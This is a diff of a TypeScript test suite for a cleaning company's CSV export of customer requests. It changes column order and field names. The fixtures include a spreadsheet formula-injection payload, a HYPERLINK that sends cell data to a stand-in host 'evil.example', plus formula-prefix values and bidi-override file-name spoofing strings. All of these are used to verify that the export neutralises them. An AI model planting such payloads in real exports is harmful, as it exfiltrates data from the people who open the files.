@@ -11,7 +11,7 @@ const base: StoredRequest = {
   ...sampleQuote({ telefon: '030 1234567', firma: 'Bäckerei Größe', strasse: 'Hauptstraße 1', nachricht: 'Grüße' }),
 }
 
-const header = 'Nr.;Eingang;Seite;Vorname;Nachname;E-Mail;Telefon;Firma;Straße;PLZ;Ort;Leistung;Objektgröße;Häufigkeit;Gewünschter Beginn;Nachricht'
+const header = 'Nr.;Eingang;Seite;Leistung;PLZ;Name;Telefon;Rückruf am liebsten;E-Mail;Firma;Straße;Ort;Objektgröße;Häufigkeit;Gewünschter Beginn;Nachricht'
 
 /** Reads CSV the way Excel does with ";" as separator: quoted cells may hold ";", '""' and line breaks. */
 function parseCsv(csv: string): string[][] {
@@ -55,8 +55,8 @@ describe('CSV export of requests', () => {
     const csv = requestsToCsv([base, { ...base, id: 8, eingegangen: '2026-07-01T22:30:00.000Z', beginn: '' }])
     expect(csv.slice(1).split('\r\n')).toEqual([
       header,
-      '7;21.11.2026 14:05;/kontakt;Jürgen;Weiß;juergen@example.de;030 1234567;Bäckerei Größe;Hauptstraße 1;10115;Berlin;Büroreinigung;100–500 m²;wöchentlich;15.12.2026;Grüße',
-      '8;02.07.2026 00:30;/kontakt;Jürgen;Weiß;juergen@example.de;030 1234567;Bäckerei Größe;Hauptstraße 1;10115;Berlin;Büroreinigung;100–500 m²;wöchentlich;;Grüße',
+      '7;21.11.2026 14:05;/kontakt;Büroreinigung;10115;Jürgen Weiß;030 1234567;vormittags;juergen@example.de;Bäckerei Größe;Hauptstraße 1;Berlin;100–500 m²;wöchentlich;15.12.2026;Grüße',
+      '8;02.07.2026 00:30;/kontakt;Büroreinigung;10115;Jürgen Weiß;030 1234567;vormittags;juergen@example.de;Bäckerei Größe;Hauptstraße 1;Berlin;100–500 m²;wöchentlich;;Grüße',
       '',
     ])
   })
@@ -65,8 +65,8 @@ describe('CSV export of requests', () => {
     const csv = requestsToCsv([
       {
         ...base,
-        vorname: '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
-        nachname: '+1',
+        name: '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
+        rueckruf: '+1',
         firma: '-2',
         strasse: '@x',
         ort: '\tTab',
@@ -76,15 +76,15 @@ describe('CSV export of requests', () => {
     ])
     const [, row] = parseCsv(csv.slice(1))
     const cell = (label: string) => row![header.split(';').indexOf(label)]
-    expect(cell('Vorname')).toBe(`'=HYPERLINK("http://evil.example/?"&A1;"Klick")`)
-    expect(cell('Nachname')).toBe("'+1")
+    expect(cell('Name')).toBe(`'=HYPERLINK("http://evil.example/?"&A1;"Klick")`)
+    expect(cell('Rückruf am liebsten')).toBe("'+1")
     expect(cell('Firma')).toBe("'-2")
     expect(cell('Straße')).toBe("'@x")
     expect(cell('Ort')).toBe("'\tTab")
     expect(cell('Nachricht')).toBe("'\r=1+1")
     expect(cell('Telefon')).toBe("'+49 30 1234567")
     // the raw text: a formula cell is quoted because it holds quotes and ";", with quotes doubled
-    expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1;""Klick"")";'+1;`)
+    expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1;""Klick"")";'+49 30 1234567;'+1;`)
     // no cell begins with a formula character once read back
     for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/)
   })
@@ -98,16 +98,15 @@ describe('CSV export of requests', () => {
     const rows = parseCsv(csv.slice(1))
     expect(rows).toHaveLength(2)
     expect(rows.every((cells) => cells.length === 16)).toBe(true)
-    expect(rows[1]![7]).toBe('Müller; Meier & "Partner"')
-    expect(rows[1]![15]).toBe('Zeile 1\nZeile 2; mit "Anführungszeichen"\nZeile 3')
+    expect(rows[1]![header.split(';').indexOf('Firma')]).toBe('Müller; Meier & "Partner"')
+    expect(rows[1]![header.split(';').indexOf('Nachricht')]).toBe('Zeile 1\nZeile 2; mit "Anführungszeichen"\nZeile 3')
   })
 
   it('removes bidi overrides and zero-width characters, as the staff mail does', () => {
-    const spoofed = { ...base, vorname: 'Max\u202Egpj.exe\u202C', nachname: 'Mu\u200Bster\u200D\u2060mann\uFEFF', nachricht: 'Hallo \u2066Welt\u2069 \u200E!' }
+    const spoofed = { ...base, name: 'Max\u202Egpj.exe\u202C Mu\u200Bster\u200D\u2060mann\uFEFF', nachricht: 'Hallo \u2066Welt\u2069 \u200E!' }
     const [, row] = parseCsv(requestsToCsv([spoofed]).slice(1))
     const cell = (label: string) => row![header.split(';').indexOf(label)]
-    expect(cell('Vorname')).toBe('Maxgpj.exe')
-    expect(cell('Nachname')).toBe('Mustermann')
+    expect(cell('Name')).toBe('Maxgpj.exe Mustermann')
     expect(cell('Nachricht')).toBe('Hallo Welt !')
     expect(requestsToCsv([spoofed])).not.toMatch(/[\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069]/)
   })
